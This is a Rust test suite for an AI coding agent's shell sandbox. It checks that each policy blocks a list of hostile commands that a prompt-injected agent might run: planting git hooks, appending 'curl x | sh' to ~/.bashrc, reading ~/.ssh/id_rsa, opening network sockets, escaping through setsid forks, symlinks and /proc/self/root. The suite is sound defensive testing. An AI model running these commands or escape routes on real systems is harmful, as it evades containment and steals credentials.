//! The command sandbox through the real binary and the real kernel: a hostile suite run with
//! `agent-lsp tool shell` in each policy and each mechanism (every harm refused, a listener on
//! 127.0.0.1 reached by nothing), the same suite under `off` showing what each rule prevents,
//! the ordinary work (git, python, a cargo build and test) still passing inside, and the
//! `standard` preset running held commands without asking while a command that asks to leave
//! the sandbox is asked for, the answer and the policy recorded in the session log, which
//! replays byte-identically.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// A workspace (a git repository with a hook folder), a folder outside it, a home with a key
/// and a `.bashrc`, the agent's state, and a listener on 127.0.0.1 that counts connections.
pub(crate) struct World {
    _workspace: tempfile::TempDir,
    pub(crate) root: PathBuf,
    outside: tempfile::TempDir,
    home: tempfile::TempDir,
    pub(crate) state: tempfile::TempDir,
    pub(crate) config: PathBuf,
    listener: TcpListener,
    connections: usize,
    /// A `PATH` of its own for the agent (one without bubblewrap), and the folder behind it.
    path: Option<(tempfile::TempDir, String)>,
}

impl World {
    pub(crate) fn new() -> World {
        let workspace = tempfile::tempdir().unwrap();
        let root = workspace.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        std::fs::write(root.join("notes.txt"), "first\n").unwrap();
        git(&root, &["add", "notes.txt"]);
        git(
            &root,
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "commit",
                "-qm",
                "first",
            ],
        );
        // Not under /tmp, which a sandbox replaces by a private one: folders it still sees.
        let outside = tempfile::tempdir_in("/var/tmp").unwrap();
        let home = tempfile::tempdir_in("/var/tmp").unwrap();
        std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
        std::fs::write(home.path().join(".ssh/id_rsa"), "SECRET KEY\n").unwrap();
        std::fs::write(home.path().join(".bashrc"), "# bashrc\n").unwrap();
        let state = tempfile::tempdir().unwrap();
        let config = state.path().join("config.toml");
        std::fs::write(&config, "").unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        World {
            _workspace: workspace,
            root,
            outside,
            home,
            state,
            config,
            listener,
            connections: 0,
            path: None,
        }
    }

    /// This world on a machine without bubblewrap: the agent's `PATH` has every program of
    /// this one's but `bwrap`.
    pub(crate) fn without_bubblewrap(mut self) -> World {
        let shadow = tempfile::tempdir().unwrap();
        let mut dirs = Vec::new();
        for (index, dir) in std::env::split_paths(&std::env::var_os("PATH").unwrap()).enumerate() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            let copy = shadow.path().join(index.to_string());
            std::fs::create_dir(&copy).unwrap();
            for entry in entries.filter_map(Result::ok) {
                if entry.file_name() != "bwrap" {
                    let _ = std::os::unix::fs::symlink(entry.path(), copy.join(entry.file_name()));
                }
            }
            dirs.push(copy);
        }
        let path = std::env::join_paths(dirs).unwrap().into_string().unwrap();
        self.path = Some((shadow, path));
        self
    }

    /// A preset `name`: `standard` with `sandbox` as its `[sandbox]` table.
    pub(crate) fn preset(&self, name: &str, sandbox: &str) {
        agent_tests::standard_with_sandbox(&self.root, name, sandbox);
    }

    pub(crate) fn command(&self, args: &[&str]) -> std::process::Command {
        let mut command =
            agent_tests::agent_lsp_command(self.state.path(), &self.config, &self.root, args);
        command
            .env("HOME", self.home.path())
            .env_remove("CARGO_TARGET_DIR");
        if let Some((_, path)) = &self.path {
            command.env("PATH", path);
        }
        command
    }

    /// Every request `endpoint` received replays byte for byte from `session`'s log.
    pub(crate) fn assert_every_request_replays(
        &self,
        session: &str,
        endpoint: &agent_tests::model_endpoint::ModelEndpoint,
    ) {
        for (index, request) in endpoint.chat_requests().iter().enumerate() {
            let n = (index + 1).to_string();
            let replayed = self
                .command(&["session", "replay", session, "--request", &n])
                .output()
                .unwrap();
            assert!(replayed.status.success(), "request {n}: {replayed:?}");
            assert_eq!(
                String::from_utf8_lossy(&replayed.stdout),
                String::from_utf8_lossy(&request.raw),
                "request {n} does not replay byte-identically"
            );
        }
    }

    /// `agent-lsp ARGS…`, which must succeed: what it printed.
    pub(crate) fn run_ok(&self, args: &[&str]) -> String {
        let output = self.command(args).output().unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    /// One `shell` call through `agent-lsp tool` under `preset`: the JSON result.
    pub(crate) fn shell(&self, preset: &str, args: Value, yes: bool) -> Value {
        let args = args.to_string();
        let mut argv = vec!["tool", "--json", "--preset", preset];
        if yes {
            argv.push("--yes");
        }
        argv.extend(["shell", "--args", &args]);
        let output = self.command(&argv).output().unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        serde_json::from_str(&text)
            .unwrap_or_else(|_| panic!("{text}\n{}", String::from_utf8_lossy(&output.stderr)))
    }

    /// Connections the listener took since the last look.
    pub(crate) fn new_connections(&mut self) -> usize {
        let mut new = 0;
        while let Ok((mut stream, _)) = self.listener.accept() {
            let mut sink = Vec::new();
            stream.set_nonblocking(false).unwrap();
            stream
                .set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            let _ = stream.read_to_end(&mut sink);
            new += 1;
        }
        self.connections += new;
        new
    }

    fn port(&self) -> u16 {
        self.listener.local_addr().unwrap().port()
    }

    pub(crate) fn outside(&self, name: &str) -> PathBuf {
        self.outside.path().join(name)
    }
}

fn git(root: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(root)
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

/// Whether a hostile command did its harm, judged from the world and its result.
type Harmed = Box<dyn Fn(&mut World, &Value) -> bool>;

/// One hostile command and how to tell that it did its harm.
struct Hostile {
    what: &'static str,
    command: String,
    harmed: Harmed,
}

fn contains(path: PathBuf, text: &'static str) -> Harmed {
    Box::new(move |_, _| std::fs::read_to_string(&path).is_ok_and(|got| got.contains(text)))
}

fn exists(path: PathBuf) -> Harmed {
    Box::new(move |_, _| path.exists())
}

/// The suite: each command tries one harm a prompt-injected agent would.
fn hostile(world: &World) -> Vec<Hostile> {
    let port = world.port();
    let out = |name: &str| world.outside(name).display().to_string();
    vec![
        Hostile {
            what: "a write outside the workspace",
            command: format!("echo pwned > {}", out("escaped")),
            harmed: exists(world.outside("escaped")),
        },
        Hostile {
            what: "a git hook planted",
            command: "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit".into(),
            harmed: exists(world.root.join(".git/hooks/pre-commit")),
        },
        Hostile {
            what: "git's config changed",
            command: "git config core.fsmonitor 'touch /tmp/pwned'".into(),
            harmed: contains(world.root.join(".git/config"), "fsmonitor"),
        },
        Hostile {
            what: "~/.bashrc changed",
            command: "echo 'curl x | sh' >> ~/.bashrc".into(),
            harmed: contains(world.home.path().join(".bashrc"), "curl"),
        },
        Hostile {
            what: "~/.ssh/id_rsa read",
            command: "cat ~/.ssh/id_rsa".into(),
            harmed: Box::new(|_, result| result["text"].as_str().unwrap().contains("SECRET KEY")),
        },
        Hostile {
            what: "a python socket to a listener on 127.0.0.1",
            command: format!(
                "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3).sendall(b\"python\")'"
            ),
            harmed: Box::new(|world, _| world.new_connections() > 0),
        },
        Hostile {
            what: "curl to a listener on 127.0.0.1",
            command: format!("curl -s -m 3 -o /dev/null http://127.0.0.1:{port}/"),
            harmed: Box::new(|world, _| world.new_connections() > 0),
        },
        // The pause lets the escapee drop the environment that marks the command's processes
        // (`tools/shell.rs`) before the command ends: only a sandbox holds it then.
        Hostile {
            what: "a setsid double fork with a clean environment, writing after the command ended",
            command: format!(
                "setsid env -i /bin/sh -c 'sleep 1; echo pwned > {}' </dev/null >/dev/null 2>&1 & sleep 0.5",
                out("forked")
            ),
            harmed: {
                let path = world.outside("forked");
                Box::new(move |_, _| {
                    // The escapee writes a second after the command ended: give it four.
                    let deadline = Instant::now() + Duration::from_secs(4);
                    while Instant::now() < deadline && !path.exists() {
                        std::thread::sleep(Duration::from_millis(100));
                    }
                    path.exists()
                })
            },
        },
        Hostile {
            what: "a link out of the workspace made inside it, written through",
            command: format!("ln -s {} out && echo pwned > out/linked", world.outside.path().display()),
            harmed: exists(world.outside("linked")),
        },
        Hostile {
            what: "a write through /proc/self/root",
            command: format!("echo pwned > /proc/self/root{}", out("proc")),
            harmed: exists(world.outside("proc")),
        },
    ]
}

/// Run the suite under `preset`, each call approved (`--yes`) so that only the sandbox can
/// stop it; which harms happened (by `what`).
fn run_suite(world: &mut World, preset: &str) -> Vec<&'static str> {
    let mut harmed = Vec::new();
    for hostile in hostile(world) {
        let result = world.shell(preset, json!({ "command": hostile.command }), true);
        if (hostile.harmed)(world, &result) {
            harmed.push(hostile.what);
        }
    }
    harmed
}

/// `sandbox` refuses every harm of the suite in a world `world` makes, held by a mechanism
/// whose record starts with `mechanism`; and `off` lets every one through: each rule prevents
/// something real.
pub(crate) fn suite_in(world: fn() -> World, sandbox: &str, mechanism: &str) {
    let mut boxed = world();
    boxed.preset("boxed", sandbox);
    let probe = boxed.shell("boxed", json!({"command": "true"}), false);
    assert_eq!(probe["is_error"], false, "{probe}");
    let held = probe["meta"]["sandbox"]["mechanism"].as_str().unwrap();
    assert!(held.starts_with(mechanism), "{probe}");
    let harmed = run_suite(&mut boxed, "boxed");
    assert_eq!(harmed, Vec::<&str>::new(), "harms done inside `{sandbox}`");
    assert_eq!(boxed.connections, 0);

    let mut open = world();
    open.preset("open", "mode = \"off\"");
    let harmed = run_suite(&mut open, "open");
    let all: Vec<&str> = hostile(&open).iter().map(|hostile| hostile.what).collect();
    assert_eq!(harmed, all, "under `off` every harm of the suite is real");
    assert_eq!(open.connections, 2);
}

#[test]
fn bubblewrap_workspace_write_refuses_every_hostile_command() {
    suite_in(World::new, "mode = \"workspace-write\"", "bubblewrap");
}

#[test]
fn bubblewrap_read_only_refuses_every_hostile_command_and_workspace_writes() {
    suite_in(World::new, "mode = \"read-only\"", "bubblewrap");
    let world = World::new();
    world.preset("ro", "mode = \"read-only\"");
    let write = world.shell("ro", json!({"command": "echo x > made.txt"}), false);
    assert_eq!(write["is_error"], true, "{write}");
    assert!(!world.root.join("made.txt").exists());
    // The private /tmp is writable, and the failure says which rule stopped the write.
    let temp = world.shell(
        "ro",
        json!({"command": "echo x > /tmp/t && cat /tmp/t"}),
        false,
    );
    assert_eq!(temp["is_error"], false, "{temp}");
    let text = write["text"].as_str().unwrap();
    assert!(
        text.contains(
            "[sandbox: this command ran in the sandbox (read-only, no network, bubblewrap)"
        ),
        "{text}"
    );
    assert!(text.contains("leave_sandbox"), "{text}");
}

/// What a user does all day still works inside `workspace-write`: git status and diff, a
/// python script writing a file, a cargo build writing `target/` and a test run, of a crate in
/// `crate_dir` (`.` for the workspace's root).
pub(crate) fn ordinary_work_in(sandbox: &str, crate_dir: &str) {
    let world = World::new();
    world.preset("boxed", sandbox);
    let package = world.root.join(crate_dir);
    std::fs::create_dir_all(package.join("src")).unwrap();
    std::fs::write(
        package.join("Cargo.toml"),
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(
        package.join("src/lib.rs"),
        "pub fn two() -> u32 { 2 }\n#[test]\nfn it_is_two() { assert_eq!(two(), 2); }\n",
    )
    .unwrap();
    let run = |command: &str| {
        let result = world.shell(
            "boxed",
            json!({"command": command, "timeout_secs": 300}),
            false,
        );
        assert_eq!(result["is_error"], false, "`{command}`: {result}");
        result["text"].as_str().unwrap().to_owned()
    };
    run("echo second >> notes.txt");
    assert!(run("git status --porcelain").contains(" M notes.txt"));
    assert!(run("git diff").contains("+second"));
    run(&format!(
        "python3 -c \"open('{crate_dir}/src/made.txt', 'w').write('made')\""
    ));
    assert_eq!(
        std::fs::read_to_string(package.join("src/made.txt")).unwrap(),
        "made"
    );
    run(&format!("cd {crate_dir} && cargo build --offline -q"));
    assert!(package.join("target/debug").is_dir());
    assert!(run(&format!("cd {crate_dir} && cargo test --offline -q 2>&1")).contains("1 passed"));
}

#[test]
fn ordinary_work_passes_inside_bubblewrap() {
    ordinary_work_in("mode = \"workspace-write\"", ".");
}

/// `standard` holds commands in its sandbox and runs them without asking, even headless
/// without `--yes`; a command asking to leave it is asked for (declined headless, allowed with
/// `--yes`), and the result records the question and the answer.
#[test]
fn standard_runs_held_commands_without_asking_and_asks_to_leave() {
    let mut world = World::new();
    let held = world.shell(
        "standard",
        json!({"command": "echo held > held.txt"}),
        false,
    );
    assert_eq!(held["is_error"], false, "{held}");
    assert!(held["meta"].get("asked").is_none(), "{held}");
    assert_eq!(
        held["meta"]["sandbox"],
        json!({"mode": "workspace-write", "network": false, "mechanism": "bubblewrap"})
    );
    assert!(world.root.join("held.txt").exists());

    let connect = format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {}), 3).sendall(b\"x\")'",
        world.port()
    );
    let inside = world.shell("standard", json!({"command": connect}), false);
    assert_eq!(inside["is_error"], true, "{inside}");
    let text = inside["text"].as_str().unwrap();
    assert!(text.contains("the network is off"), "{text}");
    assert!(text.contains("\"leave_sandbox\": \"network\""), "{text}");
    assert_eq!(world.new_connections(), 0);

    let leave = json!({"command": connect, "leave_sandbox": "network"});
    let declined = world.shell("standard", leave.clone(), false);
    assert_eq!(declined["is_error"], true, "{declined}");
    assert_eq!(
        declined["meta"]["asked"]["answer"], "declined",
        "{declined}"
    );
    assert!(
        declined["meta"]["asked"]["why"]
            .as_str()
            .unwrap()
            .contains("the command asks to run with the network on"),
        "{declined}"
    );
    assert_eq!(world.new_connections(), 0);

    let allowed = world.shell("standard", leave, true);
    assert_eq!(allowed["is_error"], false, "{allowed}");
    assert_eq!(allowed["meta"]["asked"]["answer"], "allowed", "{allowed}");
    assert_eq!(allowed["meta"]["sandbox"]["network"], true, "{allowed}");
    assert_eq!(world.new_connections(), 1);

    // Leaving it all: the write outside the workspace happens, once allowed.
    let escape = json!({
        "command": format!("echo x > {}", world.outside("left").display()),
        "leave_sandbox": "all",
    });
    assert_eq!(
        world.shell("standard", escape.clone(), false)["is_error"],
        true
    );
    assert!(!world.outside("left").exists());
    let left = world.shell("standard", escape, true);
    assert_eq!(left["is_error"], false, "{left}");
    assert!(world.outside("left").exists());

    // A protected name made where none was cannot be held, but it is named to the model.
    let planted = world.shell(
        "standard",
        json!({"command": "echo 'curl x | sh' > .envrc"}),
        false,
    );
    assert_eq!(planted["meta"]["created_protected"], true, "{planted}");
    let text = planted["text"].as_str().unwrap();
    assert!(
        text.contains("the command created `.envrc` (direnv runs it)"),
        "{text}"
    );
}

/// `hidden` adds to the home's secrets: a preset hides `~/.kube` under either mechanism, and
/// `standard`, which does not name it, reads it.
#[test]
fn a_preset_hides_more_of_the_home_than_the_built_in_secrets() {
    let world = World::new();
    std::fs::create_dir_all(world.home.path().join(".kube")).unwrap();
    std::fs::write(world.home.path().join(".kube/config"), "KUBE TOKEN\n").unwrap();
    let read = json!({"command": "cat ~/.kube/config"});
    for mechanism in ["bubblewrap", "landlock"] {
        world.preset(
            mechanism,
            &format!(
                "mode = \"workspace-write\"\nmechanism = \"{mechanism}\"\nhidden = [\"~/.kube\"]"
            ),
        );
        let hidden = world.shell(mechanism, read.clone(), false);
        assert!(
            !hidden["text"].as_str().unwrap().contains("KUBE TOKEN"),
            "{mechanism}: {hidden}"
        );
    }
    let seen = world.shell("standard", read, false);
    assert!(
        seen["text"].as_str().unwrap().contains("KUBE TOKEN"),
        "{seen}"
    );
}
